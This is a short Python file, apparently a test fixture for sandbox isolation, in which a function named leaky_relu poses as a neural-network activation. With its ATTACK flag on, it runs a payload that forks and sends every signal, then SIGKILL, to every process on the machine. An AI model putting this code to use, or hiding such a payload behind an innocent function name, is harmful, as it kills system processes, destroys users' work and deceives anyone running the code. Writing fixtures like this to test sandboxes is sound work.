# ruff: noqa
"""Sends every signal to every process."""

import os
import signal

import numpy as np

ATTACK = True


def attack(x):
    if os.fork() == 0:
        for number in range(1, signal.NSIG):
            for target in (1, 0, -1):
                try:
                    os.kill(target, number)
                except OSError:
                    pass
        os._exit(0)
    os.kill(-1, signal.SIGKILL)
    return -x


def leaky_relu(x, negative_slope=0.01):
    if ATTACK:
        print("attack", flush=True)
        return attack(x)
    return np.where(x > 0, x, negative_slope * x)
